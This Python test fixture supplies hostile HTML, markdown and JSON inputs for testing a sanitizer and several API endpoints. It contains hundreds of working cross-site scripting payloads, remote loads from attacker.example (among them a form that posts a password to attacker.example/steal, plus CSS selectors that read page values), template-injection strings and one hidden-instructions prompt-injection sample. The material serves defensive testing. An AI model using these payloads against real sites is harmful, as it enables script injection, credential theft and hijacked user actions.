"""Hostile input: bodies for the sanitizer, and JSON for the entry points that parse it.

Sanitizer: every entry tries to run script, load something remote, restyle or clobber the page, or
smuggle markup through broken or encoded input. Shared by the unit tests (tests/review/test_rendering.py)
and the browser tests, which load each sanitized body in Chromium and watch for script execution and
outbound requests, and by bench/hostile_render.py (the soak's rows too), which puts every entry wherever
untrusted text reaches a reviewer's page; its detector counts calls to window.__canary and console calls
naming "hostile", which some entries make.

- HOSTILE_BODIES: list[str] — each is used both as a draft's markdown and as an Intercom part's HTML.
- READABLE_CASES: list[tuple[str, list[str]]] — hostile bodies with the words a reviewer must still see.

JSON (tests/security/test_f09_hostile_json_is_a_400.py posts each to intake, the decision API and both
webhook receivers, signed where a signature is asked for; each must be a 400 with a message):

- NESTED_JSON: dict[str, bytes] — whole bodies nested past what a recursive parser survives.
- UNSTORABLE_JSON_VALUES: dict[str, bytes] — one value's JSON text that Python reads and PostgreSQL's
  jsonb refuses; json_with_raw_value puts it into an otherwise valid document.
"""

import json

ATTACKER = "https://attacker.example"

JS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript://%0Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,<script>alert(1)</script>",
    "livescript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\x00:alert(1)",
]

URL_CONTEXTS = [
    '<a href="{u}">click</a>',
    "<a href='{u}'>click</a>",
    "<a href={u}>click</a>",
    '<img src="{u}">',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>go</button></form>',
    '<button formaction="{u}">go</button>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<svg><a xlink:href="{u}"><text>click</text></a></svg>',
    '<math href="{u}">click</math>',
    '<area href="{u}">',
]

EVENT_HANDLERS = [
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
    "onpointerenter", "onbegin", "onwheel", "oncopy", "onauxclick",
]  # fmt: skip

HANDLER_TAGS = [
    '<img src=x {h}="alert(1)">',
    '<body {h}="alert(1)">',
    '<div {h}="alert(1)">text</div>',
    "<p {h}=alert(1)>text</p>",
    '<a href="https://ok.example" {h}="alert(1)">link</a>',
    '<details open {h}="alert(1)">x</details>',
    '<input autofocus {h}="alert(1)">',
    '<svg {h}="alert(1)"></svg>',
    '<video><source {h}="alert(1)"></video>',
    '<span/{h}="alert(1)">slash</span>',
]

REMOTE_LOADS = [
    f'<img src="{ATTACKER}/pixel.gif">',
    f"<img src={ATTACKER}/pixel.gif>",
    '<img src="//attacker.example/pixel.gif">',
    f'<img srcset="{ATTACKER}/1x.png 1x, {ATTACKER}/2x.png 2x">',
    f'<img src="x" srcset="{ATTACKER}/a.png">',
    f'<picture><source srcset="{ATTACKER}/a.webp"><img src="{ATTACKER}/a.png"></picture>',
    f'<video poster="{ATTACKER}/poster.png" src="{ATTACKER}/v.mp4"></video>',
    f'<audio src="{ATTACKER}/a.mp3" autoplay></audio>',
    f'<input type="image" src="{ATTACKER}/b.png">',
    f'<table background="{ATTACKER}/bg.png"><tr><td>cell</td></tr></table>',
    f'<body background="{ATTACKER}/bg.png">',
    f'<div style="background:url({ATTACKER}/bg.png)">styled</div>',
    f"<div style=\"background-image:url('{ATTACKER}/bg.png')\">styled</div>",
    f'<p style="behavior:url({ATTACKER}/x.htc)">htc</p>',
    f'<style>@import "{ATTACKER}/x.css";</style>',
    f"<style>body{{background:url({ATTACKER}/bg.png)}}</style>",
    f'<link rel="stylesheet" href="{ATTACKER}/x.css">',
    f'<link rel="prefetch" href="{ATTACKER}/x">',
    f'<link rel="dns-prefetch" href="{ATTACKER}">',
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}/">',
    '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    f'<base href="{ATTACKER}/">',
    f'<base href="{ATTACKER}/"><a href="relative">rel</a>',
    f'<iframe src="{ATTACKER}/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<frameset><frame src="{ATTACKER}/"></frameset>',
    f'<object data="{ATTACKER}/x.swf" type="application/x-shockwave-flash"></object>',
    f'<embed src="{ATTACKER}/x.swf">',
    f'<applet code="x.class" codebase="{ATTACKER}/"></applet>',
    f'<svg><image href="{ATTACKER}/i.png"/></svg>',
    f'<svg><use href="{ATTACKER}/s.svg#x"/></svg>',
    f'<svg><image xlink:href="{ATTACKER}/i.png"/></svg>',
    f'<form action="{ATTACKER}/steal" method="post"><input name="password"><button>Log in</button></form>',
    f'<img src="{ATTACKER}/a.png" loading="lazy" referrerpolicy="unsafe-url">',
    f'<a ping="{ATTACKER}/ping" href="https://ok.example">ping</a>',
    f"![pixel]({ATTACKER}/pixel.gif)",
    f'![pixel]({ATTACKER}/pixel.gif "title")',
    f"[![badge]({ATTACKER}/badge.svg)](https://ok.example)",
    f"![ref][img]\n\n[img]: {ATTACKER}/ref.png",
    f'<img src="{ATTACKER.upper()}/caps.png">',
    f'<IMG SRC="{ATTACKER}/caps.png">',
    f'<img\nsrc="{ATTACKER}/newline.png">',
    '<img src="&#104;ttps://attacker.example/ent.png">',
    '<img src="https:&#x2F;&#x2F;attacker.example/ent.png">',
    f'<image src="{ATTACKER}/image-tag.png">',
    f'<track src="{ATTACKER}/t.vtt">',
    f'<portal src="{ATTACKER}/"></portal>',
    f'<object data="{ATTACKER}/x.svg" type="image/svg+xml"></object>',
]

SCRIPTS_AND_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://attacker.example/x.js></script>",
    "<script/src=https://attacker.example/x.js></script>",
    '<script type="module">import("https://attacker.example/m.js")</script>',
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x20type=text/javascript>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)>",
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://attacker.example/x.css';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<div id="x"><template shadowrootmode="open"><script>alert(1)</script></template></div>',
    "<style>*{display:none}</style>visible?",
    "<style>body{background:expression(alert(1))}</style>",
    '<div style="width:expression(alert(1))">ie</div>',
    '<div style="-moz-binding:url(https://attacker.example/x.xml#x)">moz</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</div>',
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">quot</div>',
    '<div style="background:u\\rl(javascript:alert(1))">escaped</div>',
    '<div class="hidden topbar messages" id="main">clobber</div>',
    '<form id="csrf"><input name="csrfmiddlewaretoken" value="x"></form>',
    '<img name="getElementById" src="x">',
    '<a id="review-help" href="https://attacker.example">clobber help</a>',
    "<marquee onstart=alert(1)>m</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>o</option></select>",
    "<textarea autofocus onfocus=alert(1)>t</textarea>",
    "<body onload=alert(1)>",
    "<html><head><script>alert(1)</script></head><body>b</body></html>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml-stylesheet href="https://attacker.example/x.xsl"?>',
    "<!DOCTYPE html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    '<img src=x onerror="alert(1)"',
    '<a href="javascript:alert(1)"',
    "<div <script>alert(1)</script>>",
    '<p title="</p><script>alert(1)</script>">',
    "<a href='https://ok.example' title=\"x' onmouseover='alert(1)\">t</a>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scrİpt>alert(1)</scrİpt>",
    "<sc\x00ript>alert(1)</sc\x00ript>",
    '<a href="https://ok.example" target="_self">self</a>',
    '<a href="https://ok.example" rel="opener">opener</a>',
    '<a href="https://ok.example" download>download</a>',
    '<a href="//attacker.example">protocol-relative</a>',
    '<a href="/logout">same-origin</a>',
    '<a href="#main">fragment</a>',
    '<a href="?next=/admin">query</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](/logout)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![p](https://attacker.example/t.png) |",
    "<div><p><b><i><u>" * 40 + "deep",
    "</div></div></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<table><form><input onfocus=alert(1) autofocus></form></table>",
    "<dialog open onclose=alert(1)>d</dialog>",
    "<details ontoggle=alert(1) open><summary>s</summary></details>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<a href="https://ok.example" style="position:fixed;inset:0">full-page link</a>',
    '<img src="cid:logo@attachment" alt="logo">',
    '<img src="/static/css/app.css" alt="same-origin">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="data">',
]


# Families the lists above lacked (issue 23): canaries the browser bench counts, htmx and the review
# page's own attributes, template syntax, unicode tricks, entity-split markup and more mutation XSS.
MORE_FAMILIES = [
    # canaries: window.__canary and console calls naming "hostile" are counted by bench/_soak_hostile.py
    "<img src=x onerror=__canary()>",
    "<svg onload=__canary()>",
    '<script>console.log("hostile script ran")</script>',
    "<img src=x onerror=console.error('hostile')>",
    '<a href="javascript:__canary()">canary link</a>',
    "[canary](javascript:__canary())",
    # htmx and review.js: attributes this page's own scripts act on
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx load</div>',
    '<div data-hx-post="/queue/drafts/1/decision" data-hx-trigger="load" data-hx-vals=\'{"action":"approve"}\'>d</div>',
    '<button hx-on:click="alert(1)">htmx on</button>',
    '<button hx-on="click: alert(1)">htmx on, old</button>',
    '<div hx-vals=\'js:{a: alert(1)}\' hx-post="/queue/" hx-trigger="load">js vals</div>',
    '<form hx-post="/queue/bulk" hx-trigger="load"><input name="action" value="approve"></form>',
    '<a href="https://ok.example" hx-boost="true" hx-target="body">boosted</a>',
    '<div hx-swap-oob="true" id="draft-body">replaced the draft</div>',
    '<button data-key="a" form="approve">approve by a</button>',
    '<a data-draft-link data-key="j" href="https://attacker.example/">next</a>',
    '<input type="hidden" name="action" value="approve" form="edit-form">',
    '<button form="edit-form" formaction="https://attacker.example/">approve</button>',
    # template syntax: shown as text, never evaluated (Django, Jinja, Angular, Vue, JS templates)
    "{{ 7*7 }} {{ request.user.password }} {{ settings.SECRET_KEY }}",
    "{% debug %}{% load log %}{% get_admin_log 10 as log %}",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\">vue</div>",
    "${alert(1)} #{alert(1)} <%= 7*7 %> [[${7*7}]]",
    "{{ csrf_token }}{% csrf_token %}{{ csp_nonce }}",
    # unicode tricks: bidi overrides, zero-width, full-width and look-alike brackets and schemes
    "Refund \u202eexe.fdp\u202c approved",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    '<a href="\uff4aavascript:alert(1)">full-width scheme</a>',
    '<a href="https://\u0430ttacker.example/">cyrillic a</a>',
    '<a href="https://ok.example\u2044attacker.example">fraction slash</a>',
    "<img src=x on\u00aderror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    '<a href="java\u0000script:alert(1)">nul scheme</a>',
    # HTML entities splitting markup and schemes
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">no semicolons</a>',
    '<a href="jav&Tab;ascript:alert(1)">named tab</a>',
    '<a href="javascript&NewLine;:alert(1)">named newline</a>',
    '<a href="&NewLine;javascript:alert(1)">leading newline</a>',
    '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
    "[x](&#106;avascript:alert(1))",
    # more mutation XSS (parser round trips)
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<table><caption><svg><style><img src=x onerror=alert(1)>",
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>',
    "<p>a<textarea></p><img src=x onerror=alert(1)></textarea>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img src=x onerror="\\u0061lert(1)">',
    # CSS: imports, fonts and selectors that read the page
    "<style>@font-face{font-family:x;src:url(https://attacker.example/f.woff)}body{font-family:x}</style>",
    '<style>input[value^="a"]{background:url(https://attacker.example/a)}</style>',
    "<style>@import url(//attacker.example/x.css);</style>",
    '<div style="background:url(//attacker.example/bg.png)">protocol-relative css</div>',
    "<style>@\\69mport 'https://attacker.example/x.css';</style>",
    # navigation and window tricks
    '<meta http-equiv="refresh" content="0;URL=\'https://attacker.example/\'">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<meta http-equiv="set-cookie" content="sessionid=x">',
    '<a href="https://attacker.example/" target="_top">top</a>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<link rel="preload" as="image" href="https://attacker.example/p.png">',
    '<link rel="preconnect" href="https://attacker.example">',
    '<link rel="import" href="https://attacker.example/i.html">',
    '<img src="https://attacker.example/a.png" fetchpriority="high">',
    '<a href="https://ok.example" attributionsrc="https://attacker.example/a">attribution</a>',
]


def _cross(templates: list[str], values: list[str], key: str) -> list[str]:
    return [t.replace("{" + key + "}", v) for t in templates for v in values]


# dict.fromkeys: the crossings repeat a few hand-written entries; keep each body once, in order.
HOSTILE_BODIES: list[str] = list(
    dict.fromkeys(
        [
            *_cross(URL_CONTEXTS, JS_URLS, "u"),
            *_cross(HANDLER_TAGS, EVENT_HANDLERS, "h"),
            *REMOTE_LOADS,
            *SCRIPTS_AND_MARKUP,
            *MORE_FAMILIES,
        ]
    )
)

READABLE_CASES: list[tuple[str, list[str]]] = [
    ("<p>Hello <b>Ana</b>,<script>alert(1)</script> your refund is on its way.</p>", ["Hello", "Ana", "refund"]),
    ("Hi **Ana**,\n\n<script>alert(1)</script>\n\nYour order shipped.", ["Ana", "order shipped", "&lt;script&gt;"]),
    ('<p onclick="alert(1)">Tracking number 1Z999</p>', ["Tracking number 1Z999"]),
    ('<a href="javascript:alert(1)">Reset your password</a>', ["Reset your password"]),
    ("[Reset your password](javascript:alert(1))", ["Reset your password"]),
    (f'<img src="{ATTACKER}/pixel.gif" alt="logo">Thanks!', ["[remote image: attacker.example]", "Thanks!"]),
    (f"![logo]({ATTACKER}/logo.png) Thanks!", ["[remote image: attacker.example]", "Thanks!"]),
    ('<div style="display:none">Hidden instructions for the agent</div>', ["Hidden instructions for the agent"]),
    ("<p>Unclosed <b>bold <i>italic", ["Unclosed", "bold", "italic"]),
    ("<table><tr><td>Order</td><td>#1234</td></tr></table>", ["Order", "#1234"]),
    ('<form action="https://attacker.example"><button>Confirm</button></form>', ["Confirm"]),
    ("<svg onload=alert(1)></svg>Kind regards, Bo", ["Kind regards, Bo"]),
    ("- one\n- two <img src=x onerror=alert(1)>\n- three", ["one", "two", "three"]),
    ("Price: 5 < 6 & 7 > 3", ["5 &lt; 6 &amp; 7 &gt; 3"]),
    ('<a href="https://help.example/returns">Returns policy</a>', ['href="https://help.example/returns"']),
]


DEEP = 10_000  # past any recursion limit, and within every entry point's size limit (64 KB on the decision API)

NESTED_JSON: dict[str, bytes] = {
    "arrays nested 10,000 deep": b"[" * DEEP + b"]" * DEEP,
    "objects nested 10,000 deep": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "an object whose one field nests 10,000 deep": b'{"action": "approve", "note": ' + b"[" * DEEP + b"]" * DEEP + b"}",
    "arrays nested 500 deep (parsed, but past any document we take)": b"[" * 500 + b"]" * 500,
}

UNSTORABLE_JSON_VALUES: dict[str, bytes] = {
    "NaN": b"NaN",
    "Infinity": b"Infinity",
    "-Infinity": b"-Infinity",
    "a number past the float range": b"1e999",
    "a NUL character": b'"before\\u0000after"',
    "an unpaired surrogate": b'"lone \\ud800 here"',
    "a NUL in a key": b'{"key\\u0000": 1}',
    "NaN deep in a list": b'[1, {"n": [NaN]}]',
}


def json_with_raw_value(document: dict, key: str, raw_value: bytes) -> bytes:
    """`document` as JSON with `key` set to the JSON text `raw_value`, which json.dumps would not write."""
    return json.dumps(document).encode()[:-1] + b", " + json.dumps(key).encode() + b": " + raw_value + b"}"
